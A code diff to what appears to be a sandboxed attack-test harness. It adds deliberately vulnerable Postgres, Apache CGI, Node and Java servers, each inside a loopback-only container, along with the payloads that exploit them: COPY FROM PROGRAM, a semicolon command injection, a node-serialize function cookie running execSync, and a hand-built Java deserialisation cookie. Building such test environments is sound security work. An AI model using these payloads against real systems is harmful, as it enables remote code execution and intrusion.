@@ -9,6 +9,10 @@
 //! | redis | `MODULE LOAD` from a directory that others write to | modules and protected settings are allowed |
 //! | nginx | a page's name that ends in `\|` | a Perl handler with the two-argument `open` |
 //! | webapp | a cookie that is a pickle | it is unpickled |
+//! | postgres | `COPY … FROM PROGRAM` | everybody is trusted to be the superuser |
+//! | apache | a page's name in a CGI script's query | it goes through `eval` |
+//! | node | a cookie that is JSON with a function in it | it is called |
+//! | java | a cookie that is a serialised object | it is read |
 //! | mariadb | a function's library by `SELECT … INTO DUMPFILE`, then `CREATE FUNCTION` | the application may do all, and its password is known |
 //!
 //! Each server has a network namespace with nothing but loopback; the web application shares its database's.
@@ -16,7 +20,7 @@
 use super::attacker::{self, Service, Talk};
 use crate::{
     Container, Containerd, Netns, Run, images,
-    servers::{Load, Mariadb, Nginx, Slap, WebApp},
+    servers::{Load, Mariadb, Nginx, Postgres, Shop, Slap, WebApp},
 };
 use anyhow::{Context as _, Result, bail, ensure};
 use std::{
@@ -46,7 +50,7 @@ const SCRIPT: Duration = Duration::from_secs(25);
 const LIBRARIES: &str = "/var/lib/mysql/plugin";
 
 /// Servers that there are, in the order in which they start.
-pub const SERVERS: [&str; 4] = ["redis", "nginx", "mariadb", "webapp"];
+pub const SERVERS: [&str; 8] = ["redis", "nginx", "mariadb", "webapp", "postgres", "apache", "node", "java"];
 
 /// A server that is attacked.
 #[derive(Debug)]
@@ -75,6 +79,11 @@ enum Door {
     Redis(PathBuf),
     Nginx,
     WebApp,
+    Shop(Shop),
+    Postgres {
+        database: Postgres,
+        count: AtomicU32,
+    },
     MariaDb {
         database: Mariadb,
         library: Vec<u8>,
@@ -97,6 +106,14 @@ pub fn start(containerd: &Containerd, names: &[&str]) -> Result<Vec<Target>> {
     }
     if names.contains(&"mariadb") || names.contains(&"webapp") {
         targets.extend(shop(containerd)?.into_iter().filter(|target| names.contains(&target.name)));
+    }
+    if names.contains(&"postgres") {
+        targets.push(postgres(containerd)?);
+    }
+    for kind in [Shop::Apache, Shop::Node, Shop::Java] {
+        if names.contains(&kind.name()) {
+            targets.push(shop_on(containerd, kind)?);
+        }
     }
     for target in &targets {
         target.plant_token()?;
@@ -157,6 +174,21 @@ fn shop(containerd: &Containerd) -> Result<Vec<Target>> {
     Ok(vec![mariadb, webapp])
 }
 
+fn postgres(containerd: &Containerd) -> Result<Target> {
+    let network = Arc::new(Netns::new(containerd.scratch())?);
+    let database = Postgres::start(containerd, &network, "postgres")?;
+    let clients = vec![Client::Load(database.load("postgres-clients")?)];
+    let server = database.container.clone();
+    let door = Door::Postgres { database, count: AtomicU32::new(0) };
+    Ok(Target { name: "postgres", server, network, door, _clients: clients })
+}
+
+fn shop_on(containerd: &Containerd, kind: Shop) -> Result<Target> {
+    let network = Arc::new(Netns::new(containerd.scratch())?);
+    let (server, visitors) = kind.start(containerd, &network, kind.name())?;
+    Ok(Target { name: kind.name(), server, network, door: Door::Shop(kind), _clients: vec![Client::Load(visitors)] })
+}
+
 /// Compiles a library.
 fn library(source: &str, to: &Path) -> Result<()> {
     let file = to.with_extension("c");
@@ -194,6 +226,16 @@ impl Target {
                 self.get("/item?id=1", &cookie(&pickle))
             }
             Door::MariaDb { .. } => self.sql_function(&piped),
+            Door::Postgres { .. } => self.sql(&format!(
+                "CREATE TABLE out (line text); COPY out FROM PROGRAM '{piped}'; SELECT line FROM out; DROP TABLE out"
+            )),
+            Door::Shop(Shop::Apache) => {
+                self.get(&format!("/cgi/size?page={}", attacker::urlencode(&format!("help; {piped}"))), "")
+            }
+            Door::Shop(Shop::Node) => {
+                self.javascript(&format!("require('child_process').execSync(\"{piped}\", {{ shell: '/bin/bash' }}).toString()"))
+            }
+            Door::Shop(Shop::Java) => self.get("/cart", &format!("Cookie: cart={}\r\n", attacker::base64(&task(&piped)))),
         }
     }
 
@@ -217,10 +259,45 @@ impl Target {
         attacker::http(&self.network, Nginx::PORT, "GET", path, headers, "")
     }
 
-    /// What the database answers to `sql`, asked from a container of the attacker's with the application's password.
+    /// Has the Node.js application itself call a function of `code`: JavaScript, without another process.
+    pub(super) fn javascript(&self, code: &str) -> Result<String> {
+        let cart = serde_json::json!({ "x": format!("_$$ND_FUNC$$_{code}") }).to_string();
+        self.get("/item?id=1", &format!("Cookie: cart={}\r\n", attacker::base64(cart.as_bytes())))
+    }
+
+    /// What the database answers to `sql`, asked from a container of the attacker's.
     pub(super) fn sql(&self, sql: &str) -> Result<String> {
-        let Door::MariaDb { database, count, .. } = &self.door else { bail!("{} takes no SQL", self.name) };
-        database.query(&format!("attacker-{}", count.fetch_add(1, Ordering::Relaxed)), sql)
+        let id = |count: &AtomicU32| format!("attacker-{}-{}", self.name, count.fetch_add(1, Ordering::Relaxed));
+        match &self.door {
+            Door::MariaDb { database, count, .. } => database.query(&id(count), sql),
+            Door::Postgres { database, count } => database.query(&id(count), sql),
+            _ => bail!("{} takes no SQL", self.name),
+        }
+    }
+
+    /// Twenty backups in /var/backups, put there from outside; the server's user may change them.
+    pub(super) fn plant_backups(&self) -> Result<()> {
+        let dir = PathBuf::from(format!("/proc/{}/root/var/backups", self.server.pid()));
+        fs::create_dir_all(&dir)?;
+        chown(&dir, Some(100), Some(100))?;
+        for n in 0..20 {
+            let file = dir.join(format!("shop-{n}.sql"));
+            fs::write(&file, "INSERT INTO users VALUES (1);\n".repeat(300))?;
+            chown(&file, Some(100), Some(100)).with_context(|| format!("giving away {}", file.display()))?;
+        }
+        Ok(())
+    }
+
+    /// Where a container engine's socket is in its container, as the host sees it.
+    pub(super) fn engine_socket(&self) -> Result<PathBuf> {
+        let dir = PathBuf::from(format!("/proc/{}/root/var/run", self.server.pid()));
+        // A link would lead out of the container.
+        ensure!(fs::symlink_metadata(&dir)?.is_dir(), "{} is no directory", dir.display());
+        let socket = dir.join("docker.sock");
+        if socket.exists() {
+            fs::remove_file(&socket)?;
+        }
+        Ok(socket)
     }
 
     /// The output of a shell command that the database runs in a function of its own.
@@ -238,6 +315,26 @@ impl Target {
              DROP FUNCTION sys_eval"
         ))
     }
+}
+
+/// A `Task` of tests/fixtures/attacks/java/Shop.java, as Java serialises it (protocol version 5 of the Object Serialization Stream).
+fn task(command: &str) -> Vec<u8> {
+    let mut bytes = vec![0xac, 0xed, 0, 5];
+    let text = |bytes: &mut Vec<u8>, text: &str| {
+        bytes.extend((text.len() as u16).to_be_bytes());
+        bytes.extend(text.as_bytes());
+    };
+    // An object, its class: serialVersionUID 1, serializable, one field.
+    bytes.extend([0x73, 0x72]);
+    text(&mut bytes, "Task");
+    bytes.extend([0, 0, 0, 0, 0, 0, 0, 1, 2, 0, 1, b'L']);
+    text(&mut bytes, "command");
+    bytes.push(0x74);
+    text(&mut bytes, "Ljava/lang/String;");
+    // No more of the class, no class above it; the field.
+    bytes.extend([0x78, 0x70, 0x74]);
+    text(&mut bytes, command);
+    bytes
 }
 
 fn cookie(pickle: &str) -> String {
